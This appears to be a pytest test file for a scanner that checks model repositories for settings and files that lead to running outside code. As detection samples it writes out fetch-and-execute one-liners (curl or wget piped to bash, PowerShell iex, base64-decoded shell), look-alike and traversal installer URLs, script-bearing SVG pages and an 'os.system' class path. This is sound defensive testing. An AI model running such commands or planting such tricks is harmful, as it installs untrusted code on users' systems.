"""Code beside a model, and settings that ask for it."""

import pytest

from artefacts import edit_json, tiny_model, write_json
from hostile import CODE, HOSTILE, torch_zip
from sekisho.checks.base import Case
from sekisho.checks.remote_code import RemoteCode
from sekisho.inventory import take
from sekisho.limits import Limits
from sekisho.records import Outcome, Severity


def findings(folder, limits=None):
    return tuple(RemoteCode().run(Case(take(folder, limits or Limits()))))


@pytest.fixture
def model(tmp_path):
    return tiny_model(tmp_path / "m")


@pytest.mark.parametrize("name", CODE)
def test_hit(name, model):
    CODE[name](model)
    (finding,) = findings(model)
    assert (finding.outcome, finding.severity) == (Outcome.FAIL, Severity.REJECT)
    assert (model / finding.where.partition(":")[0]).exists()


def test_hit_names_what_would_be_imported(model):
    CODE["auto-map"](model)
    (finding,) = findings(model)
    assert finding.where == "config.json:auto_map"
    assert dict(finding.facts)["name"] == "modeling_custom.CustomModel"


def test_hit_inside_an_archive(model):
    path = torch_zip(model / "x.pt")
    path.write_bytes(path.read_bytes().replace(b"archive/version", b"archive/code.py"))
    assert [f.where for f in findings(model)] == ["x.pt:archive/code.py"]


def test_clean(model):
    edit_json(
        model / "config.json", auto_map=None, rope_scaling={"type": "llama3.1"}, _attn_implementation="sdpa"
    )
    edit_json(
        model / "tokenizer_config.json",
        auto_map={},
        trust_remote_code=False,
        tokenizer_class="LlamaTokenizer",
    )
    mapping = {"base_model_class": "LlamaModel", "parent_library": "transformers.models.llama.modeling_llama"}
    write_json(model / "adapter_config.json", {"peft_type": "LORA", "auto_mapping": mapping})
    write_json(model / "modules.json", [{"idx": 0, "type": "sentence_transformers.models.Transformer"}])
    assert findings(model) == ()


def test_a_library_path_that_leaves_the_library_is_no_library(model):
    mapping = {"parent_library": "transformers.models./../evil"}
    write_json(model / "adapter_config.json", {"peft_type": "LORA", "auto_mapping": mapping})
    assert [f.reason for f in findings(model)] == ["auto-map"]


def test_malformed(model):
    HOSTILE["broken-json"](model)
    assert [(f.outcome, f.severity) for f in findings(model)] == [(Outcome.CANNOT_TELL, Severity.HOLD)]


@pytest.mark.parametrize("name", ["deep-json", "json-of-20-mb"])
def test_over_limit(name, model):
    HOSTILE[name](model)
    assert [(f.outcome, f.reason) for f in findings(model)] == [(Outcome.CANNOT_TELL, "not-read")]


@pytest.mark.parametrize("name", ["LICENSE.html", "page.HTM", "logo.svg"])
def test_a_page_that_no_loader_opens_holds_and_does_not_reject(name, model):
    (model / name).write_text("<script>alert(1)</script>")
    (finding,) = findings(model)
    assert (finding.where, finding.reason, finding.severity) == (name, "page", Severity.HOLD)


DRAWING = '<svg xmlns="http://www.w3.org/2000/svg" width="9"><style>rect {fill: red}</style><rect/></svg>'


@pytest.mark.parametrize(
    ("name", "text", "reason"),
    [
        ("logo.svg", DRAWING.replace("<style>rect {fill: red}</style>", ""), "drawing"),
        ("logo.svg", DRAWING, "page"),
        ("logo.svg", DRAWING.replace("<rect/>", "<script>0</script>"), "page"),
        ("logo.svg", DRAWING.replace("<rect/>", "<x:script>0</x:script>"), "page"),
        ("logo.svg", DRAWING.replace("<rect/>", "<rect onload='0'/>"), "page"),
        ("logo.svg", DRAWING.replace("<rect/>", "<image href='http://a.example/b'/>"), "page"),
        ("logo.svg", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "b">]><svg><rect/></svg>', "page"),
        ("logo.svg", "<html><body>not drawn</body></html>", "page"),
        ("requirements.txt", "torch>=2.1,<3  # cpu\ntransformers[torch]==4.44.0\n\n", "packages"),
        ("requirements.txt", "torch\n--extra-index-url https://packages.example/simple\n", "code-file"),
        ("requirements.txt", "tools @ git+https://code.example/tools\n", "code-file"),
        ("requirements.txt", "-e .\n", "code-file"),
        ("requirements.txt", "./tools.whl\n", "code-file"),
    ],
)
def test_drawings_and_lists_of_packages(name, text, reason, tmp_path):
    model = tiny_model(tmp_path / "m")
    (model / name).write_text(text)
    (finding,) = RemoteCode().run(Case(take(model)))
    assert finding.reason == reason
    assert (finding.severity is Severity.NOTE) == (reason in {"drawing", "packages"})


@pytest.mark.parametrize(
    ("name", "document", "reason"),
    [
        ("config.json", {"Auto_Map": {"AutoModel": "m.M"}}, "auto-map"),
        ("config.json", {"custom_pipelines": {"x": {"impl": "p.P"}}}, "auto-map"),
        ("config.json", {"kernel_config": {"RMSNorm": "someone/kernels:RMSNorm"}}, "hub-kernel"),
        ("2_Dense/config.json", {"activation_function": "os.system"}, "class-path"),
        ("preprocessor_config.json", {"image_processor_type": "tool.module.Processor"}, "class-path"),
        ("modules.json", [{"path": "", "type": "someone--tool.module.Module"}], "class-path"),
    ],
)
def test_less_known_settings_that_lead_to_code(name, document, reason, tmp_path):
    (tmp_path / name).parent.mkdir(exist_ok=True)
    write_json(tmp_path / name, document)
    (finding,) = RemoteCode().run(Case(take(tmp_path)))
    assert (finding.reason, finding.severity) == (reason, Severity.REJECT)


def test_activation_functions_of_torch_are_no_code(tmp_path):
    write_json(tmp_path / "config.json", {"activation_function": "torch.nn.modules.activation.Tanh"})
    write_json(tmp_path / "other.json", {"activation_function": "gelu_new", "type": "my--own thing"})
    assert [*RemoteCode().run(Case(take(tmp_path)))] == []


FETCHED = {
    "piped": "curl -fsSL https://example.com/i.sh | bash",
    "with rights": "wget -qO- https://example.com/i \\\n  | sudo -E sh",
    "substituted": "bash <(curl -s https://example.com/i)",
    "in a string": 'sh -c "$(curl -fsSL example.com/i)"',
    "evaluated": "eval `curl https://example.com/i`",
    "PowerShell": "iwr -useb https://example.com/i.ps1 | iex",
    "PowerShell, turned round": "IEX (New-Object Net.WebClient).DownloadString('https://example.com/i')",
    "encoded": "echo aGk= | base64 -d | bash",
    "Python": "curl https://example.com/i.py | python3",
    "beside a known one": "curl https://ollama.com/install.sh https://example.com/x | sh",
    "beside a known one, bare": "curl https://ollama.com/install.sh example.com/x | sh",
    "a number for a host": "curl https://ollama.com/install.sh 16909060/x | sh",
    "with settings of the folder": "curl -Kx https://ollama.com/install.sh | sh",
    "through another": "curl -x example.com:80 https://ollama.com/install.sh | sh",
    "a look-alike": "curl https://ollama.com.example.com/install.sh | sh",
    "a look-alike without a path": "curl https://sh.rustup.rs.example.com | sh",
    "a known one as a name": "curl https://sh.rustup.rs@example.com/x | sh",
    "out of a known one": "curl https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.0/../../../someone/x/main/i.sh | sh",
    "a fork by its commit": "curl https://raw.githubusercontent.com/nvm-sh/nvm/0123456789abcdef/install.sh | sh",
}


@pytest.mark.parametrize("name", FETCHED)
def test_a_text_that_runs_what_it_fetches(name, model):
    (model / "README.md").write_text(f"# Tiny\n\n{FETCHED[name]}\n")
    (finding,) = findings(model)
    assert (finding.reason, finding.severity) == ("runs-what-it-fetches", Severity.HOLD)
    assert finding.where == "README.md:3"


@pytest.mark.parametrize(
    "line",
    [
        "curl -fsSL https://ollama.com/install.sh | sh",
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
        "wget -qO- https://astral.sh/uv/install.sh | sudo -E bash",
        "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.0/install.sh | bash",
        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
        'powershell -c "irm https://astral.sh/uv/install.ps1 | iex"',
    ],
)
def test_a_known_installer_is_a_note(line, model):
    (model / "README.md").write_text(f"{line}\n")
    assert [(f.reason, f.outcome) for f in findings(model)] == [("known-installer", Outcome.PASS)]


@pytest.mark.parametrize(
    "line",
    [
        "curl -L -o tiny.gguf https://example.com/tiny.gguf",
        "curl http://localhost:8000/v1/models | python -m json.tool",
        "curl https://example.com/a | jq . | sha256sum",
        "curl https://example.com/a > a.sh",
    ],
)
def test_fetching_alone_runs_nothing(line, model):
    (model / "README.md").write_text(line)
    assert findings(model) == ()


PROCESSORS = {
    "map": ({"auto_map": {"AutoProcessor": "processing_kettle.Kettle"}}, "auto-map"),
    "map within": ({"image_processor": {"auto_map": {"AutoImageProcessor": "kettle.Kettle"}}}, "auto-map"),
    "class": ({"processor_class": "kettle.processing.Kettle"}, "class-path"),
    "class of a repository": ({"feature_extractor_type": "someone/kettle--processing.Kettle"}, "class-path"),
    "class of pictures": ({"image_processor_type": "kettle.Kettle"}, "class-path"),
    "class of films": ({"video_processor": {"video_processor_type": "kettle.Kettle"}}, "class-path"),
    "trust": ({"trust_remote_code": True}, "trust-remote-code"),
    "another model": (
        {
            "audio_tokenizer": {
                "audio_tokenizer_class": "DacModel",
                "audio_tokenizer_name_or_path": "someone/dac",
            }
        },
        "loads-elsewhere",
    ),
}


@pytest.mark.parametrize(
    "file", ["preprocessor_config.json", "processor_config.json", "video_preprocessor_config.json"]
)
@pytest.mark.parametrize("name", PROCESSORS)
def test_settings_of_processors(name, file, model):
    settings, reason = PROCESSORS[name]
    write_json(model / file, settings)
    (finding,) = findings(model)
    held = reason == "loads-elsewhere"
    assert (finding.reason, finding.severity) == (reason, Severity.HOLD if held else Severity.REJECT)


def test_clean_settings_of_a_processor(model):
    write_json(
        model / "preprocessor_config.json",
        {"image_processor_type": "Idefics3ImageProcessor", "do_resize": True},
    )
    assert findings(model) == ()


def test_a_page_of_the_catalogue_is_known_by_its_bytes(model, monkeypatch):
    (model / "LICENSE.html").write_text("<script>0</script>")
    digest = next(f.sha256 for f in take(model).files if f.path == "LICENSE.html")
    monkeypatch.setattr("sekisho.checks.remote_code.KNOWN_PAGES", frozenset({digest}))
    assert [(f.reason, f.outcome) for f in findings(model)] == [("known-page", Outcome.PASS)]
    (model / "LICENSE.html").write_text("<script>1</script>")
    assert [f.reason for f in findings(model)] == ["page"]
